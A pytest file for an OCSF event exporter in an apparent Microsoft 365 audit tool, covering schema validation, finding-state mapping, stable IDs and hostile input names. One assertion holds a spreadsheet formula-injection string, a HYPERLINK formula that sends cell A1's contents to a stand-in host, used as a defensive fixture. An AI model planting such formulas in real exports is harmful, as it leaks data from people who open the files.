"""OCSF: every event as the schema has it, no pass of what was not looked at, what is fixed closes what failed."""

import json
from collections.abc import Callable
from copy import deepcopy
from dataclasses import replace
from datetime import UTC, date, datetime
from typing import Any

import pytest
from export.built import (
    PERMISSION_GAP,
    REFUSED,
    decided,
    every_state,
    hostile,
    one_clause,
    stated,
    unseen,
    urgent,
    whole,
)
from export.ocsf_schema import wrong_with
from report.hand_built import assessment

from m365audit.export import Audited
from m365audit.export.as_ocsf import events, pieces
from m365audit.export.ocsf_words import SEVERITY, STATUS
from m365audit.model.answers import Effect
from m365audit.model.assessment import Assessment, Finding
from m365audit.model.decisions import Standing
from m365audit.model.months import Previous
from m365audit.model.words import Result, Severity, State

Event = dict[str, Any]


def of_kind(audited: Audited, kind: str) -> list[Event]:
    return [event for event in events(audited) if event["finding_info"]["types"] == [kind]]


def of_finding(made: Finding) -> Event:
    [event] = of_kind(replace(whole(), findings=(made,)), "finding")
    return event


def short(event: Event) -> tuple[str, str, str]:
    return event["activity_name"], event["status"], event["compliance"]["status"]


@pytest.mark.parametrize(
    "audited",
    [
        pytest.param(assessment(), id="a realistic council"),
        pytest.param(every_state(), id="findings in every state"),
        pytest.param(hostile(), id="hostile names"),
        pytest.param(whole(), id="a council where all is well"),
        pytest.param(unseen(), id="a council where nothing was seen"),
        pytest.param(REFUSED, id="an audit that was refused"),
        *(pytest.param(one_clause(result), id=f"a clause that came to {result}") for result in Result),
    ],
)
def test_every_event_is_as_the_schema_has_it(audited: Audited) -> None:
    made = [json.loads(line) for line in pieces([audited])]
    assert made
    assert [wrong for event in made for wrong in wrong_with(event)] == []


def without(*path: str) -> Callable[[Event], None]:
    def change(event: Event) -> None:
        for part in path[:-1]:
            event = event[part]
        del event[path[-1]]

    return change


def with_(value: object, *path: str | int) -> Callable[[Event], None]:
    def change(event: Event) -> None:
        held: Any = event
        for part in path[:-1]:
            held = held[part]
        held[path[-1]] = value

    return change


@pytest.mark.parametrize(
    ("change", "complaint"),
    [
        pytest.param(without("time"), "event.time is required", id="no time"),
        pytest.param(without("compliance"), "event.compliance is required", id="no compliance"),
        pytest.param(without("metadata", "product"), "metadata.product is required", id="no product"),
        pytest.param(without("finding_info", "uid"), "finding_info.uid is required", id="no uid"),
        pytest.param(
            without("finding_info", "analytic", "type_id"), "type_id is required", id="an analytic of no type"
        ),
        pytest.param(without("remediation", "desc"), "remediation.desc is required", id="a remedy without words"),
        pytest.param(with_(7, "activity_id"), "activity_id cannot be 7", id="an activity there is not"),
        pytest.param(with_("Fine", "severity"), "its sibling severity says", id="a caption of another number"),
        pytest.param(with_(1795253400, "time"), "no time in milliseconds", id="seconds"),
        pytest.param(with_("2026-11-21", "time"), "no time in milliseconds", id="a date in words"),
        pytest.param(with_(200399, "type_uid"), "type_uid is not", id="another type"),
        pytest.param(with_("1.1.0", "metadata", "version"), "another version", id="another version of the schema"),
        pytest.param(with_("x", "council"), "event.council is not in the schema", id="an attribute of our own"),
        pytest.param(with_({}, "resource"), "resource is deprecated", id="a deprecated attribute"),
        pytest.param(with_([], "compliance", "standards"), "standards is no list", id="an empty list"),
        pytest.param(with_("", "message"), "message is no text", id="an empty text"),
        pytest.param(with_({"type": "x"}, "resources", 0), "needs one of", id="a resource without name and id"),
        pytest.param(with_("4", "severity_id"), "severity_id is no whole number", id="a number in quotes"),
    ],
)
def test_the_validator_sees_what_is_wrong(change: Callable[[Event], None], complaint: str) -> None:
    event = deepcopy(of_finding(urgent(Severity.HIGH, 1)))
    assert wrong_with(event) == []
    change(event)
    assert any(complaint in wrong for wrong in wrong_with(event)), wrong_with(event)


@pytest.mark.parametrize(
    ("finding", "expected"),
    [
        pytest.param(stated(State.NEW), ("Create", "New", "Fail"), id="new"),
        pytest.param(stated(State.OPEN), ("Update", "New", "Fail"), id="still open, and nobody has answered"),
        pytest.param(stated(State.CAME_BACK), ("Update", "New", "Fail"), id="came back"),
        pytest.param(stated(State.FIXED), ("Close", "Resolved", "Pass"), id="fixed"),
        pytest.param(
            stated(State.NOT_COMPARABLE), ("Update", "Not comparable", "Warning"), id="not looked at this time"
        ),
        pytest.param(stated(State.OPEN, result=Result.REVIEW), ("Update", "New", "Review"), id="for somebody to judge"),
        pytest.param(
            decided(stated(State.OPEN, result=Result.ACCEPTED), Standing.HOLDS),
            ("Update", "Suppressed", "Accepted"),
            id="accepted",
        ),
        pytest.param(
            decided(stated(State.OPEN), Standing.LAPSED), ("Update", "New", "Fail"), id="accepted until lately"
        ),
        pytest.param(
            decided(stated(State.OPEN), Standing.TO_GO, Effect.ENDS),
            ("Update", "In Progress", "Fail"),
            id="to be ended",
        ),
        pytest.param(
            decided(stated(State.OPEN), Standing.ASKED, Effect.ASKS),
            ("Update", "In Progress", "Fail"),
            id="asked about",
        ),
    ],
)
def test_a_finding_tells_where_it_stands(finding: Finding, expected: tuple[str, str, str]) -> None:
    assert short(of_finding(finding)) == expected


@pytest.mark.parametrize(
    ("result", "expected"),
    [
        pytest.param(Result.DOES_NOT_MEET, ("Create", "New", "Fail"), id="does not meet"),
        pytest.param(Result.REVIEW, ("Create", "New", "Review"), id="review"),
        pytest.param(Result.NOT_ASSESSED, ("Create", "New", "Warning"), id="not assessed"),
        pytest.param(Result.ATTESTATION_DUE, ("Create", "New", "Warning"), id="attestation due"),
        pytest.param(Result.ADVICE, ("Create", "New", "Advice"), id="advice"),
        pytest.param(Result.ACCEPTED, ("Create", "Suppressed", "Accepted"), id="accepted"),
        pytest.param(Result.ATTESTED, ("Close", "Resolved", "Attested"), id="attested"),
        pytest.param(Result.MEETS, ("Close", "Resolved", "Pass"), id="meets"),
        pytest.param(Result.NOT_APPLICABLE, ("Close", "Resolved", "Not applicable"), id="not applicable"),
    ],
)
@pytest.mark.parametrize("kind", ["check", "clause"])
def test_a_check_and_a_clause_tell_what_they_came_to(result: Result, kind: str, expected: tuple[str, str, str]) -> None:
    [event] = of_kind(one_clause(result), kind)
    assert short(event) == expected


def test_only_what_meets_or_is_fixed_passes() -> None:
    assert [result for result, named in STATUS.items() if named.caption == "Pass"] == [Result.MEETS]
    assert set(STATUS) == set(Result)
    assert set(SEVERITY) == {*Result, *Severity}


def test_after_the_first_audit_a_check_that_still_fails_is_an_update() -> None:
    earlier = Previous("20261021T093000Z", date(2026, 10, 21), complete=True, clauses={})
    [event] = of_kind(replace(one_clause(Result.DOES_NOT_MEET), previous=earlier), "check")
    assert event["activity_name"] == "Update"


def test_what_passes_now_closes_what_failed_a_month_ago() -> None:
    failed, passed = one_clause(Result.DOES_NOT_MEET), one_clause(Result.MEETS)
    passed = replace(passed, run="20261221T093000Z", as_of=date(2026, 12, 21))
    for kind in ("check", "clause", "audit"):
        [before], [after] = of_kind(failed, kind), of_kind(passed, kind)
        assert before["finding_info"]["uid"] == after["finding_info"]["uid"]
        assert after["activity_name"] == "Close"


@pytest.mark.parametrize(
    ("audited", "status"),
    [
        pytest.param(whole(), "Pass", id="everything came"),
        pytest.param(one_clause(Result.MEETS, gaps=(PERMISSION_GAP,)), "Warning", id="something is missing"),
        pytest.param(replace(REFUSED, tenant="exampleton"), "Warning", id="it was refused"),
    ],
)
def test_the_audit_itself_is_an_event_of_one_name(audited: Audited, status: str) -> None:
    [event] = of_kind(audited, "audit")
    assert event["finding_info"]["uid"] == "audit:exampleton"
    assert event["compliance"]["status"] == status


def test_where_nothing_was_seen_nothing_passes() -> None:
    assert {event["compliance"]["status"] for event in events(unseen())} == {"Warning"}


def test_every_finding_check_and_clause_is_an_event_of_its_own() -> None:
    made = every_state()
    told = list(events(made))
    uids = [event["finding_info"]["uid"] for event in told]
    assert len(uids) == len(set(uids)) == 1 + len(made.findings) + len(made.checks) + len(made.clauses)
    assert len({event["metadata"]["uid"] for event in told}) == len(told)


def test_an_event_keeps_its_id_until_it_says_something_else() -> None:
    first, again = (
        event["metadata"]["uid"] for event in (of_finding(stated(State.NEW)), of_finding(stated(State.NEW)))
    )
    assert first == again
    assert of_finding(stated(State.OPEN))["metadata"]["uid"] != first


@pytest.mark.parametrize("severity", list(Severity))
def test_a_check_is_as_urgent_as_its_most_urgent_finding(severity: Severity) -> None:
    made = one_clause(Result.DOES_NOT_MEET, findings=(urgent(Severity.LOW, 1), urgent(severity, 2)))
    assert [event["severity"] for event in of_kind(made, "check")] == [str(severity).capitalize()]


def test_days_are_the_councils_days_summer_and_winter() -> None:
    for day in (date(2026, 6, 21), date(2026, 12, 21)):
        event = of_finding(replace(stated(State.NEW), first_seen=day))
        assert datetime.fromtimestamp(event["finding_info"]["first_seen_time"] / 1000, UTC).date() == day


def test_one_line_an_event_and_the_same_lines_again() -> None:
    text = "".join(pieces([hostile(), REFUSED]))
    assert text.endswith("\n")
    assert all(json.loads(line)["class_uid"] == 2003 for line in text.split("\n")[:-1])
    assert text == "".join(pieces([hostile(), REFUSED]))


def test_a_name_stays_as_it_is_but_for_half_a_character() -> None:
    names = {event["resources"][0]["name"] for event in of_kind(hostile(), "finding")}
    assert '=HYPERLINK("https://example.test/?"&A1,"Minutes")' in names
    assert "half a pair \ufffd" in names


def test_a_finding_says_what_it_is_about_and_what_to_do() -> None:
    made: Assessment = one_clause(Result.DOES_NOT_MEET, findings=(urgent(Severity.HIGH, 1),))
    [event] = of_kind(made, "finding")
    [found] = made.findings
    assert event["finding_info"]["uid"] == found.reference
    assert event["resources"] == [{"uid": found.subject.id, "name": found.subject.name, "type": "account"}]
    assert event["remediation"]["desc"] == found.fix
    assert event["compliance"]["requirements"] == ["B-01-01", "CE UAC"]
    assert event["compliance"]["standards"] == ["Exampleton IT policy, version 3, adopted 4 May 2025"]
    assert event["unmapped"]["run"] == made.run
